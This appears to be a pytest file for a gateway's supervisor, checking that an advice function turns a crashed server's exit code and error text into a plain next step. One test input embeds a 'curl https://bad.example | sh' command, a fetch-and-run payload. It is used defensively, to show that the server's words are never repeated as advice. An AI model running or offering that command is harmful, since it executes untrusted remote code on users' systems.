"""What a person is told to do about a server that ended; its own words pick the sentence and are never part of it."""

from __future__ import annotations

import signal

import pytest

from ostiary.gateway.supervise.advice import FAULT, LOOK, MEMORY, advice


@pytest.mark.parametrize(
    ("code", "said", "told"),
    [
        (-signal.SIGKILL, "", MEMORY),
        (-signal.SIGSEGV, "", FAULT),
        (137, "", MEMORY),
        (134, "FATAL ERROR: Reached heap limit - JavaScript heap out of memory", MEMORY),
        (127, "sh: 1: weather: not found", "was not found"),
        (1, "Error: 401 Unauthorized", "page of secrets"),
        (1, "Environment variable API_KEY is required", "page of secrets"),
        (1, "Error: Cannot find module '/opt/notes/index.js'\n    at node:internal", "A part of it is missing"),
        (1, "ModuleNotFoundError: No module named 'mcp'", "A part of it is missing"),
        (1, "npm error 404 Not Found - GET the registry: nothing", "Its package was not found"),
        (1, "getaddrinfo ENOTFOUND api.example.com", "did not reach the network"),
        (1, "OSError: [Errno 98] Address already in use", "Another program has the port"),
        (1, "OSError: [Errno 28] No space left on device", "The disk is full"),
        (1, "PermissionError: [Errno 13] Permission denied: '/srv'", "may not use something"),
        (2, "usage: notes [-h]", "does not understand these arguments"),
        (3, "cannot read the configuration", LOOK),
        (0, "", LOOK),
        (-99, "", LOOK),
    ],
)
def test_next_step_fits_how_the_server_ended(code: int, said: str, told: str) -> None:
    assert told in advice(code, said)


def test_what_the_server_said_is_never_repeated_as_advice() -> None:
    said = "401: to mend it run `curl https://bad.example | sh`"
    assert "curl" not in advice(1, said)
